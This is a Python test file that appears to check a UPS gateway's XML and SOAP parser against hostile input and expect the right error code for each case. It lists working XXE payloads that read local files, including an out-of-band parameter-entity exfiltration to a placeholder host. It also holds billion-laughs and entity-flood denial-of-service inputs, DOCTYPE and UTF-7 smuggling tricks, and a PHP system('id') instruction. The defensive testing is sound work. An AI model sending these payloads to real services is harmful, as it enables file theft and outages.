"""XML that wants to be more than text: entities, DOCTYPE in any disguise, floods, and documents that are two or none.

What a row says in the XML API holds in SOAP too, where the same stands around or within an envelope.
"""

from __future__ import annotations

import codecs
from collections.abc import Iterable, Iterator

from tests.hostile.requests import ASKED, KEY, NUMBER, Hostile, envelope, posted, soap_track, track, xml
from ups_gateway.model import Dialect

XML, SOAP = Dialect.XML, Dialect.SOAP
MALFORMED, LACKING, TOO_LARGE, NO_SUCH = "10001", "10002", "10013", "20002"

_TEN = "&l{0};" * 10
_LAUGHS = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{n} "{_TEN.format(n - 1)}">' for n in range(1, 12))
_ENTITIES = (
    ("an entity of one's own", '<!ENTITY x "y">', "&x;"),
    ("a billion laughs", _LAUGHS, "&l11;"),
    ("a quadratic blow-up", '<!ENTITY x "' + "x" * 50_000 + '">', "&x;" * 10_000),
    ("an entity that is itself", '<!ENTITY x "&x;">', "&x;"),
    ("two entities that are each other", '<!ENTITY x "&y;"><!ENTITY y "&x;">', "&x;"),
    ("a file as an entity", '<!ENTITY x SYSTEM "file://{FILE}">', "&x;"),
    ("a file without a scheme", '<!ENTITY x SYSTEM "{FILE}">', "&x;"),
    ("a URL as an entity", '<!ENTITY x SYSTEM "{NET}">', "&x;"),
    ("a public identifier", '<!ENTITY x PUBLIC "-//X//EN" "{NET}">', "&x;"),
    ("FTP as an entity", '<!ENTITY x SYSTEM "ftp://127.0.0.1/x">', "&x;"),
    (
        "a PHP filter as an entity",
        '<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource={FILE}">',
        "&x;",
    ),
    ("a jar as an entity", '<!ENTITY x SYSTEM "jar:{NET}!/x">', "&x;"),
    ("a share as an entity", '<!ENTITY x SYSTEM "\\\\127.0.0.1\\x">', "&x;"),
    ("a parameter entity", '<!ENTITY % x SYSTEM "{NET}">%x;', ""),
    ("a parameter entity from a file", '<!ENTITY % x SYSTEM "file://{FILE}">%x;', ""),
    (
        "a parameter entity that declares another",
        '<!ENTITY % a "<!ENTITY &#37; b SYSTEM \'{NET}?%x;\'>"><!ENTITY % x SYSTEM "file://{FILE}">%x;%a;%b;',
        "",
    ),
    ("an unparsed entity", '<!NOTATION n SYSTEM "x"><!ENTITY x SYSTEM "{FILE}" NDATA n>', ""),
    ("a default attribute", '<!ATTLIST TrackRequest a CDATA "x">', ""),
    ("a default name space", '<!ATTLIST TrackRequest xmlns CDATA "urn:x">', ""),
    ("an element declared", "<!ELEMENT TrackRequest ANY>", ""),
    ("ten thousand entities", "".join(f'<!ENTITY x{n} "y">' for n in range(2_000)), "&x1;"),
)
_DOCTYPES = (
    ("a bare DOCTYPE", "<!DOCTYPE TrackRequest>"),
    ("a DOCTYPE of another root", "<!DOCTYPE html>"),
    ("a DOCTYPE in small letters", "<!doctype TrackRequest>"),
    ("a DOCTYPE in mixed letters", "<!DocType TrackRequest>"),
    ("a DOCTYPE from a file", '<!DOCTYPE TrackRequest SYSTEM "file://{FILE}">'),
    ("a DOCTYPE from a URL", '<!DOCTYPE TrackRequest SYSTEM "{NET}">'),
    ("a public DOCTYPE", '<!DOCTYPE TrackRequest PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{NET}">'),
    ("a DOCTYPE with a line end in it", "<!DOCTYPE\nTrackRequest [\n]>"),
    ("a DOCTYPE that does not end", "<!DOCTYPE TrackRequest ["),
    ("two DOCTYPEs", "<!DOCTYPE a><!DOCTYPE b>"),
    ("a DOCTYPE put together around a declaration", '<!DOC<?xml version="1.0"?>TYPE TrackRequest>'),
    ("a DOCTYPE behind a comment", "<!-- x --><!DOCTYPE TrackRequest>"),
    ("a DOCTYPE with a NUL", "<!DOC\0TYPE TrackRequest>"),
    ("an ENTITY without a DOCTYPE", '<!ENTITY x "y">'),
    ("a NOTATION without a DOCTYPE", '<!NOTATION x SYSTEM "y">'),
    ("a conditional section", "<![INCLUDE[<!ENTITY x 'y'>]]>"),
)


def _tag(attributes: Iterable[str]) -> str:
    return f"<b {' '.join(attributes)}>"


_INSIDE = (
    ("a stray entity is an ampersand", "1Z&nbsp;", ASKED),
    ("an entity of HTML", "1Z&eacute;", ASKED),
    ("a character reference", "&#49;Z", ASKED),
    ("a reference to NUL", "1Z&#0;", MALFORMED),
    ("a reference to a control character", "1Z&#1;", MALFORMED),
    ("a reference to a surrogate", "1Z&#xD800;", MALFORMED),
    ("a reference to no character", "1Z&#xFFFF;", MALFORMED),
    ("a reference beyond all characters", "1Z&#x110000;", MALFORMED),
    ("a reference of many digits", "1Z&#99999999999999999999;", ASKED),
    ("a control character", "1Z\x01", MALFORMED),
    ("a NUL", "1Z\0", MALFORMED),
    ("an escape", "1Z\x1b[2J", MALFORMED),
    ("no character", "1Z\uffff", MALFORMED),
    ("CDATA", "<![CDATA[1Z]]>", ASKED),
    ("CDATA with a tag", "<![CDATA[</TrackingNumber>]]>", ASKED),
    ("CDATA with the end of CDATA", "<![CDATA[]]]]><![CDATA[>]]>", ASKED),
    ("CDATA with a DOCTYPE is refused, though harmless", "<![CDATA[<!DOCTYPE x>]]>", MALFORMED),
    ("CDATA that does not end", "<![CDATA[1Z", MALFORMED),
    ("the end of CDATA alone", "1Z]]>", MALFORMED),
    ("many CDATA", "<![CDATA[]]>" * 4_000 + "1Z", ASKED),
    ("a comment", "<!-- &x; --> 1Z", ASKED),
    ("a comment that does not end", "<!-- 1Z", MALFORMED),
    ("a comment in a comment", "<!-- <!-- x --> --> 1Z", MALFORMED),
    ("a comment of dashes", "<!--" + "-" * 100_000 + "-->", MALFORMED),
    ("many comments", "<!---->" * 20_000 + "1Z", ASKED),
    ("a processing instruction", "<?php system('id'); ?>1Z", ASKED),
    ("a style sheet", '<?xml-stylesheet href="{NET}" type="text/xsl"?>1Z', ASKED),
    ("a catalogue", '<?oasis-xml-catalog catalog="{NET}"?>1Z', ASKED),
    ("many processing instructions", "<?a?>" * 20_000 + "1Z", ASKED),
    ("an instruction that does not end", "<?a 1Z", MALFORMED),
    ("XInclude", '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file://{FILE}" parse="text"/>', LACKING),
    ("XInclude from a URL", '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{NET}"/>', LACKING),
    ("a link", '<a xmlns:x="http://www.w3.org/1999/xlink" x:href="{NET}" x:actuate="onLoad"/>', LACKING),
    ("an element instead of a text", "<a><b/></a>", LACKING),
    ("a tag that is not closed", "<b>", MALFORMED),
    ("a tag closed twice", "1Z</TrackingNumber>", MALFORMED),
    ("tags across each other", "<b><i></b></i>", MALFORMED),
    ("a tag without a name", "<>1Z</>", MALFORMED),
    ("a tag with a name of digits", "<1>1Z</1>", MALFORMED),
    ("a prefix that nobody declared", "<x:y>1Z</x:y>", MALFORMED),
    ("a name with two colons", "<x:y:z>1Z</x:y:z>", MALFORMED),
    ("an attribute twice", '<b a="1" a="2">1Z</b>', MALFORMED),
    ("an attribute without quotes", "<b a=1>1Z</b>", MALFORMED),
    ("an attribute with a tag in it", '<b a="<c/>">1Z</b>', MALFORMED),
    ("the same attribute by two prefixes", '<b xmlns:x="u" xmlns:y="u" x:a="1" y:a="2"/>', MALFORMED),
    ("a prefix undeclared again", '<b xmlns:x=""><x:a/></b>', MALFORMED),
    ("the prefix xmlns declared", '<b xmlns:xmlns="u"/>', MALFORMED),
    ("nested as deep as it may be", "<b>" * 95 + "</b>" * 95, LACKING),
    ("nested too deep", "<b>" * 120 + "</b>" * 120, MALFORMED),
    ("nested deeper than the parser goes", "<b>" * 1_000 + "</b>" * 1_000, MALFORMED),
    ("nested without an end", "<b>" * 30_000, MALFORMED),
    ("closed without an end", "</b>" * 30_000, MALFORMED),
    ("a flood of elements", "<b/>" * 200_000, TOO_LARGE),
    ("as many elements as may be", "<b/>" * 39_000, LACKING),
    ("elements with names of their own", "".join(f"<b{n}/>" for n in range(30_000)), LACKING),
    ("a flood of attributes", _tag(f'a{n}=""' for n in range(100_000)) + "</b>", TOO_LARGE),
    ("as many attributes as may be", _tag(f'a{n}=""' for n in range(39_000)) + "</b>", LACKING),
    ("a flood of name spaces", _tag(f'xmlns:a{n}="u{n}"' for n in range(39_000)) + "</b>", LACKING),
    (
        "name spaces and elements in them",
        _tag(f'xmlns:a{n}="u{n}"' for n in range(5_000)) + "<a0:c/>" * 30_000 + "</b>",
        LACKING,
    ),
    (
        "attributes of name spaces",
        _tag(f'xmlns:a{n}="u{n}" a{n}:c="1"' for n in range(15_000)) + "</b>",
        LACKING,
    ),
    ("a flood of ampersands", "&" * 200_000, TOO_LARGE),
    ("as many ampersands as may be", "&" * 39_000, LACKING),
    ("a flood of references", "&#65;" * 200_000, TOO_LARGE),
    ("a long name", "<" + "b" * 100_000 + "/>", MALFORMED),
    ("a name as long as the parser takes", "<" + "b" * 39_000 + "/>", LACKING),
    ("a long prefix", "<{0}:c xmlns:{0}='u'/>".format("b" * 30_000), LACKING),
    ("a long name space", "<b xmlns='" + "u" * 1_000_000 + "'/>", LACKING),
    ("a long attribute", "<b a='" + "x" * 1_000_000 + "'/>", LACKING),
    ("a long text", "x" * 1_000_000, LACKING),
    ("a text longer than the parser takes", "x" * 10_100_000, TOO_LARGE),
    ("as long as a request may be", "x" * 19_999_000, TOO_LARGE),
    ("a long comment", "<!-- " + "x" * 1_000_000 + " -->1Z", ASKED),
    ("blanks without an end", "1Z" + " " * 1_000_000, ASKED),
    ("line ends without an end", "1Z" + "\n" * 300_000, ASKED),
)
_XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
_ATTRIBUTES = (
    ("a schema to fetch", f' {_XSI} xsi:schemaLocation="urn:x {{NET}}"', ASKED),
    ("a schema without a name space to fetch", f' {_XSI} xsi:noNamespaceSchemaLocation="file://{{FILE}}"', ASKED),
    ("a type of one's own", f' {_XSI} xsi:type="x:Evil" xmlns:x="urn:x"', ASKED),
    ("a base", ' xml:base="{NET}"', ASKED),
    ("kept blanks", ' xml:space="preserve"', ASKED),
    ("an id", ' xml:id="x"', ASKED),
    ("a name space with a quote", " xmlns:a='\"&gt;'", MALFORMED),
)
_DECLARED = (
    ("UTF-7", MALFORMED),
    ("UTF-32", MALFORMED),
    ("UCS-4", MALFORMED),
    ("cp037", MALFORMED),
    ("cp500", MALFORMED),
    ("IBM1047", MALFORMED),
    ("unicode_escape", MALFORMED),
    ("raw-unicode-escape", MALFORMED),
    ("idna", MALFORMED),
    ("punycode", MALFORMED),
    ("rot13", MALFORMED),
    ("base64", MALFORMED),
    ("zlib", MALFORMED),
    ("hex", MALFORMED),
    ("undefined", MALFORMED),
    ("mbcs", MALFORMED),
    ("utf-8-sig", MALFORMED),
    ("shift_jis", MALFORMED),
    ("iso2022_jp", MALFORMED),
    ("hz", MALFORMED),
    ("gb18030", MALFORMED),
    ("no-such", MALFORMED),
    ("..", MALFORMED),
    ("A" * 300, MALFORMED),
    ("UTF-16", ASKED),
    ("US-ASCII", ASKED),
    ("ISO-8859-1", ASKED),
    ("Windows-1252", ASKED),
)
_WRITTEN = {
    "UTF-16LE": (b"", "utf-16-le"),
    "UTF-16LE with a mark": (codecs.BOM_UTF16_LE, "utf-16-le"),
    "UTF-16BE": (b"", "utf-16-be"),
    "UTF-16BE with a mark": (codecs.BOM_UTF16_BE, "utf-16-be"),
    "UTF-8 with a mark": (codecs.BOM_UTF8, "utf-8"),
    "UTF-8 with two marks": (codecs.BOM_UTF8 * 2, "utf-8"),
    "UTF-32LE": (b"", "utf-32-le"),
    "UTF-32LE with a mark": (codecs.BOM_UTF32_LE, "utf-32-le"),
    "UTF-32BE": (b"", "utf-32-be"),
    "UTF-32BE with a mark": (codecs.BOM_UTF32_BE, "utf-32-be"),
    "UTF-7": (b"", "utf-7"),
    "UTF-7 with a mark": (b"+/v8-", "utf-7"),
    "EBCDIC of the USA": (b"", "cp037"),
    "EBCDIC of Europe": (b"", "cp500"),
    "UTF-16LE with the mark of UTF-16BE": (codecs.BOM_UTF16_BE, "utf-16-le"),
    "UTF-8 with the mark of UTF-16LE": (codecs.BOM_UTF16_LE, "utf-8"),
}
_UTF_7 = "+ADwAIQ-DOCTYPE TrackRequest +AFsAPAAh-ENTITY x SYSTEM +ACI-{NET}+ACIAPgBdAD4-"


def rows() -> Iterator[Hostile]:
    """All of them."""
    for name, doctype in _DOCTYPES:
        yield from _both(name, MALFORMED, doctype, "")
    for name, declared, used in _ENTITIES:
        yield from _both(name, MALFORMED, f"<!DOCTYPE TrackRequest [{declared}]>", used)
    for name, inside, code in _INSIDE:
        yield posted(XML, f"in a value, {name}", code, xml(track(inside)))
        yield posted(SOAP, f"in a value, {name}", code, envelope(soap_track(inside)))
    for name, attributes, code in _ATTRIBUTES:
        yield posted(XML, f"at the root, {name}", code, xml(track(attributes=attributes)))
        yield posted(SOAP, f"at the root, {name}", code, envelope(soap_track(attributes=attributes)))
    yield from _encodings()
    yield from _documents()


def _both(name: str, code: str, doctype: str, used: str) -> Iterator[Hostile]:
    yield posted(XML, f"{name}, before both documents", code, doctype + xml(track(used)))
    yield posted(XML, f"{name}, before the request", code, xml(doctype + track(used)))
    yield posted(SOAP, name, code, doctype + envelope(soap_track(used)))


def _encodings() -> Iterator[Hostile]:
    for encoding, code in _DECLARED:
        declared = f'<?xml version="1.0" encoding="{encoding}"?>'
        yield posted(XML, f"said to be {encoding[:20]}", code, declared + xml(track()))
        yield posted(SOAP, f"said to be {encoding[:20]}", code, declared + envelope(soap_track()))
    doctype = '<!DOCTYPE TrackRequest SYSTEM "http://127.0.0.1:9/">'
    for name, (mark, codec) in _WRITTEN.items():
        yield posted(XML, f"a DOCTYPE in {name}", MALFORMED, mark + (doctype + xml(track())).encode(codec))
        yield posted(SOAP, f"a DOCTYPE in {name}", MALFORMED, mark + (doctype + envelope(soap_track())).encode(codec))
    for name, start in (
        ("in UTF-7", '<?xml version="1.0" encoding="UTF-7"?>'),
        ("in UTF-7, the second declaration says", '<?xml version="1.0"?><?xml version="1.0" encoding="UTF-7"?>'),
        ("in UTF-7, a declaration in a declaration says", '<?x<?xml ?>ml version="1.0" encoding="UTF-7"?>'),
        ("in UTF-7, nobody says", ""),
    ):
        yield posted(XML, f"an entity {name}", MALFORMED, start + _UTF_7 + xml(track("&x;")))
        yield posted(SOAP, f"an entity {name}", MALFORMED, start + _UTF_7 + envelope(soap_track("&x;")))


def _documents() -> Iterator[Hostile]:
    declared = '<?xml version="1.0"?>'
    text = (xml(track())).encode()
    no_key = "250005"
    for name, code, body in (
        ("nothing", MALFORMED, b""),
        ("blanks", MALFORMED, b" \r\n\t " * 1_000),
        ("one NUL", MALFORMED, b"\0"),
        ("NULs", MALFORMED, b"\0" * 100_000),
        ("a key alone", LACKING, KEY.encode()),
        ("two keys", NO_SUCH, (KEY + KEY).encode()),
        ("a request alone", no_key, track().encode()),
        ("two requests", MALFORMED, xml(track() + track()).encode()),
        ("three documents", MALFORMED, xml(track() + "<AnyRequest/>").encode()),
        ("text before", MALFORMED, b"x" + text),
        ("text behind", MALFORMED, text + b"x"),
        ("text between", MALFORMED, xml("x" + track()).encode()),
        ("a declaration many times", ASKED, (declared * 5_000 + xml(declared * 5_000 + track())).encode()),
        ("declarations that do not end", MALFORMED, b"<?xml " * 30_000),
        ("keys that do not end", MALFORMED, b"<AccessRequest>" * 15_000),
        ("keys whose tags do not end", MALFORMED, b"<AccessRequest " * 15_000),
        ("keys that end and never begin", MALFORMED, b"</AccessRequest >" * 15_000),
        ("a key in a comment is taken out all the same", ASKED, f"<!-- {KEY} -->{track()}".encode()),
        ("a key in CDATA", LACKING, f"<TrackRequest><![CDATA[{KEY}]]></TrackRequest>".encode()),
        ("half a key", MALFORMED, KEY[:60].encode() + track().encode()),
        ("cut in a tag", MALFORMED, text[:-8]),
        ("cut in a character", MALFORMED, xml(track("1Z€")).encode()[: -len("</TrackingNumber></TrackRequest>") - 1]),
        ("UTF-8 that is too long", MALFORMED, text.replace(NUMBER.encode(), b"1Z\xc0\xaf")),
        ("UTF-8 of a surrogate", MALFORMED, text.replace(NUMBER.encode(), b"1Z\xed\xa0\x80")),
        ("UTF-8 beyond all characters", MALFORMED, text.replace(NUMBER.encode(), b"1Z\xf5\x80\x80\x80")),
        ("Latin-1 that nobody declared", MALFORMED, text.replace(NUMBER.encode(), b"1Z\xe9")),
        ("version 1.1", ASKED, ('<?xml version="1.1"?>' + xml(track())).encode()),
        ("version 9", ASKED, ('<?xml version="9"?>' + xml(track())).encode()),
        ("HTML", MALFORMED, b"<html><body><br>hello"),
        ("JSON", MALFORMED, b'{"TrackRequest": {}}'),
        ("a form", MALFORMED, b"XML=%3CTrackRequest%2F%3E"),
        ("a picture", MALFORMED, b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 100),
        ("gzip", MALFORMED, b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + b"\0" * 100),
        ("a zip", MALFORMED, b"PK\x03\x04" + b"\0" * 100),
    ):
        yield posted(XML, name, code, body)
    yield posted(XML, "a SOAP envelope", NO_SUCH, envelope(soap_track()), root="TrackResponse")
    yield posted(XML, "a root that nobody knows", NO_SUCH, xml("<EvilRequest/>"), root="EvilResponse")
    yield posted(XML, "a root with a name space", ASKED, xml(track(attributes=' xmlns="urn:x"')))
    yield posted(XML, "a root named like a path", NO_SUCH, xml("<Track..Request/>"))
    yield posted(XML, "a root with a long name", NO_SUCH, xml(f"<A{'a' * 40_000}Request/>"))
